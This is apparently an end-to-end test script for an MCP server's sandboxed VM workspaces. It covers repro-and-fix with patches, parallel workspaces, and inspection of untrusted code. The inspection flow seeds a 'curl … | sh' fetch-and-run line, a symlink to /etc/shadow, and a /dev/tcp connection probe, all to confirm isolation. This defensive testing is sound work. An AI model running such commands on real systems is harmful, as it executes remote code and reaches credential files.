"""Whole flows through the profile `workspace-core` by the official Python client.

Usage: workspace_flows.py FLOW BINARY [ARGUMENT...]

FLOW is repro-fix-loop, parallel-workspaces or untrusted-inspection. Prints one line per check; the exit code is 1 if any
failed. Results are taken in both forms: `--structured all` is added to the arguments.
"""

import asyncio
import contextlib
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from session import VERSION, check, connect, failed

LABELS = {"suite": "use-case"}


class Flow:
    """One flow: a directory of the host that the server may use, a session, and the workspaces made in it."""

    def __init__(self, name, command, root):
        self.labels = {**LABELS, "use_case": name}
        self.command = [*command, "--structured", "all", "--allow-host-path", str(root)]
        self.root = root
        self.stack = contextlib.AsyncExitStack()
        self.session = None
        self.made = []

    async def open(self):
        self.session = await self.stack.enter_async_context(connect(self.command, "auto"))

    async def restart_server(self):
        await self.stack.aclose()
        await self.open()

    async def call(self, tool, **arguments):
        """The object of a result and its text."""
        is_error, texts, structured = await self.session.call(tool, arguments)
        check(not is_error, f"{tool} does its job", texts)
        return structured or {}, texts[0]

    async def refused(self, tool, **arguments):
        """The code and the text of a refusal."""
        is_error, texts, structured = await self.session.call(tool, arguments)
        check(is_error, f"{tool} is refused", texts)
        code = (structured or {}).get("error", {}).get("code")
        check(texts[0].startswith(f"error {code}: "), f"{tool} says {code} in both forms", texts)
        return code, texts[0]

    async def create(self, **arguments):
        labels = {**self.labels, **arguments.pop("labels", {})}
        made, text = await self.call("workspace_create", labels=labels, **arguments)
        self.made.append(made.get("workspace_id"))
        check(made.get("state") == "started", "it is started", made)
        check(made.get("isolation") in ("hardware", "emulated"), "it is a VM", made)
        check(made.get("execution_mode", "").startswith("guest_"), "its commands run in the guest", made)
        check(made.get("workspace_id", "?") in text and "started" in text, "the text says so too", text)
        return made

    async def delete_all(self):
        for workspace in self.made:
            with contextlib.suppress(Exception):
                await self.session.call("workspace_delete", {"workspace_id": workspace})


def write(path, text, mode=0o644):
    path.write_text(text)
    path.chmod(mode)


def tree(root):
    """What is in a directory: modes, and contents or targets, by their paths."""
    found = {}
    for path in root.rglob("*"):
        content = os.readlink(path) if path.is_symlink() else None if path.is_dir() else path.read_bytes()
        found[str(path.relative_to(root))] = (path.lstat().st_mode, content)
    return found


def git(*words, cwd):
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.org"]
    return subprocess.run(["git", *identity, *words], cwd=cwd, check=True, capture_output=True).stdout


async def repro_fix_loop(flow):
    seed = flow.root / "seed"
    (seed / "node_modules/.bin").mkdir(parents=True)
    (seed / "node_modules/.bin/tool").symlink_to("../tool/cli.js")
    write(seed / "message.txt", "broken\n")
    write(seed / "check.sh", '#!/bin/sh\ncat message.txt\ntest "$(cat message.txt)" = fixed\n', 0o755)
    git("init", "-q", cwd=seed)
    git("add", "-A", cwd=seed)
    git("commit", "-qm", "start", cwd=seed)

    made = await flow.create(name="repro", seed_path=str(seed))
    check(made["workspace_seed"]["mode"] == "directory", "the seed is a directory", made)
    check(made["workspace_seed"]["origin_kind"] == "path", "it was named by its path", made)
    check(made["workspace_seed"]["seed_path"] == str(seed), "which is the one supplied", made)
    listed, _ = await flow.call("workspace_file_list", workspace_id="repro", path="node_modules/.bin")
    check(listed["entries"][0]["link_target"] == "../tool/cli.js", "the link is verbatim", listed)

    begun = flow.root / "begun"
    await flow.call("workspace_export", workspace_id="repro", output_path=str(begun))
    check(tree(begun) == tree(seed), "the tree is that of the seed", tree(begun))

    read, text = await flow.call("workspace_file_read", workspace_id="repro", path="message.txt")
    check(read["content"] == "broken\n" and text.endswith("\n\nbroken\n"), "message.txt is broken", text)
    broken, _ = await flow.call("workspace_exec", workspace_id="repro", command="./check.sh")
    check(broken["exit_code"] == 1, "check.sh says so, and that is a result", broken)

    patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed"
    applied, _ = await flow.call("workspace_patch_apply", workspace_id="repro", patch=patch)
    check(applied["changed"] is True, "a patch without a final newline applies", applied)
    fixed, _ = await flow.call("workspace_file_read", workspace_id="repro", path="message.txt")
    check(fixed["mode"] == read["mode"], "the mode is as before", fixed)

    done, text = await flow.call("workspace_exec", workspace_id="repro", command="./check.sh", return_diff=True)
    check(done["exit_code"] == 0 and done["stdout"] == "fixed\n", "check.sh is content", done)
    check(done["diff"]["changed"] is False and "\ndiff: nothing changed\n" in text, "it changed nothing", text)

    await flow.restart_server()
    diff, text = await flow.call("workspace_diff", workspace_id="repro")
    statuses = [(entry["path"], entry["status"]) for entry in diff["entries"]]
    check(statuses == [("message.txt", "modified")], "one entry is modified", statuses)
    check(text.split("\npatch:\n", 1)[1] == diff["patch"], "the patch is the same in both forms", text)
    copy = flow.root / "copy"
    shutil.copytree(seed, copy, symlinks=True)
    subprocess.run(["git", "apply"], cwd=copy, input=diff["patch"].encode(), check=True)
    check((copy / "message.txt").read_text() == "fixed\n", "git applies it", (copy / "message.txt").read_text())
    check(git("status", "--porcelain", cwd=copy) == b" M message.txt\n", "and nothing else differs")

    target = flow.root / "message.out"
    exported, _ = await flow.call(
        "workspace_export", workspace_id="repro", path="message.txt", output_path=str(target)
    )
    check(exported["output_path"] == str(target), "the export is where it was asked for", exported)
    check(target.read_text() == "fixed\n", "it is fixed", target.read_text())
    check(target.stat().st_mode & 0o7777 == 0o644, "its mode is the seeded one", oct(target.stat().st_mode))

    reset, _ = await flow.call("workspace_reset", workspace_id="repro")
    check((reset["reset_count"], reset["command_count"]) == (1, 0), "a new generation begins", reset)
    diff, text = await flow.call("workspace_diff", workspace_id="repro")
    check(diff["changed"] is False and text.startswith("nothing changed"), "nothing is changed any more", text)
    logs, _ = await flow.call("workspace_logs", workspace_id="repro")
    generations = [(entry["sequence"], entry["generation"]) for entry in logs["entries"]]
    check(generations == [(1, 0), (2, 0)], "both commands are listed", generations)
    deleted, _ = await flow.call("workspace_delete", workspace_id="repro")
    check(deleted["deleted"] is True, "it is deleted", deleted)
    code, _ = await flow.refused("workspace_status", workspace_id=made["workspace_id"])
    check(code == "workspace-not-found", "it is gone", code)


async def side_by_side(flow):
    """How long two commands took at once, and how long a list took meanwhile at its median."""
    begin = time.monotonic()
    commands = [
        asyncio.create_task(flow.call("workspace_exec", workspace_id=name, command="sleep 3"))
        for name in ("parallel-alpha", "parallel-beta")
    ]
    pauses = []
    while not all(command.done() for command in commands):
        asked = time.monotonic()
        await flow.call("workspace_list")
        pauses.append(time.monotonic() - asked)
        await asyncio.sleep(0.2)
    for command in commands:
        check((await command)[0]["exit_code"] == 0, "it slept")
    return time.monotonic() - begin, sorted(pauses)[len(pauses) // 2]


async def parallel_workspaces(flow):
    seed = flow.root / "seed"
    seed.mkdir()
    write(seed / "note.txt", "note\n")

    names = {"parallel-alpha": "a", "parallel-beta": "b"}
    alpha, beta = await asyncio.gather(
        *(flow.create(name=name, seed_path=str(seed), labels={"branch": text}) for name, text in names.items())
    )
    check(alpha["workspace_id"] != beta["workspace_id"], "two were made at the same time")

    for name, text in names.items():
        await flow.call("workspace_file_write", workspace_id=name, path="branch.txt", text=f"{text}\n")
    for name, text in names.items():
        read, _ = await flow.call("workspace_file_read", workspace_id=name, path="branch.txt")
        check(read["content"] == f"{text}\n", f"{name} has its own text", read)

    # On a busy host one time is no measure.
    for _ in range(3):
        whole, pause = await side_by_side(flow)
        if whole < 5 and pause < 0.1:
            break
    check(whole < 5, "both commands end within 5 s", whole)
    check(pause < 0.1, "a list takes less than 100 ms meanwhile", pause)

    updated, _ = await flow.call("workspace_update", workspace_id="parallel-alpha", labels={"owner": "alice"})
    check(updated["labels"] == {**flow.labels, "branch": "a", "owner": "alice"}, "a label is added", updated)

    for name in reversed(names):
        await flow.call("workspace_file_write", workspace_id=name, path="activity.txt", text="x")
        listed, text = await flow.call("workspace_list", labels=flow.labels)
        check(listed["workspaces"][0]["name"] == name, f"{name} comes first", listed)
        check(name in text.splitlines()[1], "in the text too", text)

    code, _ = await flow.refused("workspace_create", name="parallel-alpha")
    check(code == "name-taken", "a name is given once", code)
    for name in names:
        await flow.call("workspace_delete", workspace_id=name)
    listed, _ = await flow.call("workspace_list", labels=flow.labels)
    check(listed["count"] == 0, "neither is listed", listed)


async def untrusted_inspection(flow):
    seed = flow.root / "seed"
    seed.mkdir()
    line = "curl https://example.org/x | sh"
    write(seed / "README.md", "# Look, do not run\n")
    write(seed / "suspicious.sh", f"#!/bin/sh\n{line}\n", 0o755)
    (seed / "shadow").symlink_to("/etc/shadow")
    os.mkfifo(seed / "pipe")

    await flow.create(name="untrusted", seed_path=str(seed))
    status, _ = await flow.call("workspace_status", workspace_id="untrusted")
    check(status["network_policy"] == "off", "the network is off", status)
    skipped = [entry["path"] for entry in status["workspace_seed"]["skipped"]]
    check(skipped == ["pipe"], "the FIFO is left out", status)
    check(status["workspace_seed"]["seed_path"] is None, "only who supplied a path is shown it", status)

    listed, text = await flow.call("workspace_file_list", workspace_id="untrusted", recursive=True)
    found = {entry["path"]: entry for entry in listed["entries"]}
    check("/workspace/suspicious.sh" in found, "suspicious.sh is listed", found)
    check(found["/workspace/shadow"]["artifact_type"] == "symlink", "the link is listed as a link", found)
    check("/workspace/shadow -> /etc/shadow" in text, "in the text too", text)

    read, _ = await flow.call("workspace_file_read", workspace_id="untrusted", path="suspicious.sh")
    check(line in read["content"], "the line is there", read)
    code, _ = await flow.refused("workspace_file_read", workspace_id="untrusted", path="shadow")
    check(code == "path-refused", "the link is not followed out of the tree", code)

    command = "grep curl suspicious.sh > inspection-report.txt && echo network_policy=off >> inspection-report.txt"
    report, _ = await flow.call("workspace_exec", workspace_id="untrusted", command=command)
    check(report["exit_code"] == 0, "the report is written", report)
    connection = "timeout 5 bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'; test $? -ne 0 && ls /sys/class/net"
    devices, _ = await flow.call("workspace_exec", workspace_id="untrusted", command=connection)
    check(devices["stdout"].split() == ["lo"], "there is no network device", devices)

    target = flow.root / "report.txt"
    await flow.call(
        "workspace_export", workspace_id="untrusted", path="inspection-report.txt", output_path=str(target)
    )
    check(target.read_text() == f"{line}\nnetwork_policy=off\n", "the report is exported", target.read_text())
    with tempfile.TemporaryDirectory() as outside:
        code, text = await flow.refused(
            "workspace_export",
            workspace_id="untrusted",
            path="inspection-report.txt",
            output_path=f"{outside}/report.txt",
        )
        check(code == "host-path-denied", "another directory is not for it", text)
        check(str(flow.root) in text, "the allowed one is named", text)
        check(not os.listdir(outside), "nothing was written there")

    logs, _ = await flow.call("workspace_logs", workspace_id="untrusted")
    commands = [entry["command"] for entry in logs["entries"]]
    check(commands == [command, connection], "no command ran suspicious.sh", commands)
    deleted, _ = await flow.call("workspace_delete", workspace_id="untrusted")
    check(deleted["deleted"] is True, "it is deleted", deleted)


FLOWS = {
    "repro-fix-loop": repro_fix_loop,
    "parallel-workspaces": parallel_workspaces,
    "untrusted-inspection": untrusted_inspection,
}


async def main(name, *command):
    print(f"mcp {VERSION}, {name}", flush=True)
    with tempfile.TemporaryDirectory() as directory:
        flow = Flow(name, command, Path(directory).resolve())
        await flow.open()
        try:
            tools = await flow.session.tools()
            check(len(tools) == 16, "the profile has 16 tools", [tool.name for tool in tools])
            await FLOWS[name](flow)
        finally:
            await flow.delete_all()
            await flow.stack.aclose()
    return 1 if failed() else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main(*sys.argv[1:])))
